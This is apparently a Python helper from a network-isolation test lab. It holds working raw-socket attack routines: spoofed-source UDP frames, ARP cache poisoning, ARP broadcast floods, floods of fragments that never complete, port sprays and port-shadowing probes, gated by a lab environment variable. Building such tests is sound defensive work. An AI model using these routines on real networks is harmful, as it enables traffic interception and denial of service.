"""Attack, or watch an attack, from one network namespace: ``shots.py WHAT JSON``; prints a number.

Runs inside a lab, without scapy: the peers' containers have only what the host has.
"""

from __future__ import annotations

import contextlib
import json
import os
import select
import socket
import struct
import sys
import time

MARK = b"niso-bench-shot"
LINK = "eth0"


def mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def packet(source: str, target: str, payload: bytes, flags: int = 0, number: int = 0) -> bytes:
    """A UDP packet, or with ``flags`` (of ip(7)'s frag_off) a fragment."""
    udp = struct.pack("!HHHH", 9, 9, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), number, flags, 64, 17, 0)
    head += socket.inet_aton(source) + socket.inet_aton(target)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp


def wire() -> socket.socket:
    made = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # ETH_P_ALL
    made.bind((LINK, 0x0003))
    return made


def send(made: socket.socket, frame: bytes) -> None:
    while True:
        try:
            made.send(frame)
            return
        except OSError:  # the link's queue is full
            time.sleep(0.0005)


def shoot(to: str, own: str, source: str, target: str, count: int) -> int:
    """Send datagrams with this MAC and address."""
    made = wire()
    frame = mac(to) + mac(own) + b"\x08\x00" + packet(source, target, MARK)
    for _ in range(count):
        send(made, frame)
    return count


def beside(to: str, own: str, source: str, prefix: str, count: int) -> int:
    """Send datagrams by the gateway's MAC to as many addresses that begin so."""
    made = wire()
    for n in range(count):
        send(made, mac(to) + mac(own) + b"\x08\x00" + packet(source, f"{prefix}.{n + 20}", MARK))
    return count


def claim(own: str, address: str, target: str, to: str, count: int) -> int:
    """Tell a neighbour by ARP that an address has this MAC."""
    made = wire()
    answer = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac(own) + socket.inet_aton(address)
    frame = mac(to) + mac(own) + b"\x08\x06" + answer + mac(to) + socket.inet_aton(target)
    for _ in range(count):
        send(made, frame)
    return count


def ask_all(own: str, address: str, prefix: str, seconds: float) -> int:
    """Broadcast ARP questions as fast as it goes."""
    made, end, count = wire(), time.monotonic() + seconds, 0
    head = b"\xff" * 6 + mac(own) + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1)
    frame = head + mac(own) + socket.inet_aton(address) + bytes(6)
    frame += socket.inet_aton(f"{prefix}.250")
    while time.monotonic() < end:
        for _ in range(100):
            send(made, frame)
        count += 100
    return count


def parts(to: str, own: str, source: str, target: str, count: int) -> int:
    """Send first fragments of packets that never become whole."""
    made = wire()
    for n in range(count):
        part = packet(source, target, bytes(1400), 0x2000, n + 1)
        send(made, mac(to) + mac(own) + b"\x08\x00" + part)
    return count


def flows(target: str, seconds: float) -> int:
    """Open new flows by plain sockets, without any right."""
    end, count = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
            for port in range(1, 5001):
                try:
                    made.sendto(b"x", (target, port))
                except OSError:
                    time.sleep(0.0001)
                    if time.monotonic() > end:
                        break
                count += 1
    return count


def watch(seconds: float, arp: bool = False) -> int:
    """Count marked frames, or ARP questions, that come in."""
    made, end, count = wire(), time.monotonic() + seconds, 0
    made.setsockopt(socket.SOL_SOCKET, 33, 64 << 20)  # SO_RCVBUFFORCE
    print("ready", flush=True)
    while (left := end - time.monotonic()) > 0:
        if select.select([made], [], [], left)[0]:
            frame, (_, _, kind, *_) = made.recvfrom(2048)
            wanted = frame[12:14] == b"\x08\x06" and frame[21] == 1 if arp else MARK in frame
            count += kind != 4 and wanted  # PACKET_OUTGOING
    return count


def say(target: str, count: int) -> int:
    """Send marked datagrams as an honest service does."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        for _ in range(count):
            made.sendto(MARK, (target, 9))
            time.sleep(0.01)
    return count


def shadow(port: int, target: str, first: int, count: int) -> int:
    """Send from a port that another service publishes; count the questions that come for it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.bind(("0.0.0.0", port))
        for n in range(count):
            made.sendto(b"x", (target, first + n))
        print("ready", flush=True)
        got = 0
        while select.select([made], [], [], 2)[0] and got < count:
            with contextlib.suppress(OSError):  # a port unreachable
                got += MARK in made.recv(2048)
        return got


def ask(target: str, port: int, first: int, count: int, pause: float = 0.0) -> int:
    """Ask a published port from these ports; count the answers of the right service."""
    answers = 0
    for n in range(count):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
            made.bind(("0.0.0.0", first + n))
            made.settimeout(0.3)
            made.sendto(MARK, (target, port))
            try:
                answers += made.recv(2048) == b"victim"
            except OSError:
                continue
        time.sleep(pause)
    return answers


def serve(port: int, seconds: float) -> int:
    """Answer datagrams with "victim"."""
    end, count = time.monotonic() + seconds, 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.bind(("0.0.0.0", port))
        print("ready", flush=True)
        while (left := end - time.monotonic()) > 0:
            if select.select([made], [], [], left)[0]:
                _, peer = made.recvfrom(2048)
                made.sendto(b"victim", peer)
                count += 1
    return count


if __name__ == "__main__":
    if os.environ.get("NISO_LAB") != "1":
        sys.exit("this attacks: only in a lab")
    print(globals()[sys.argv[1]](**json.loads(sys.argv[2])))
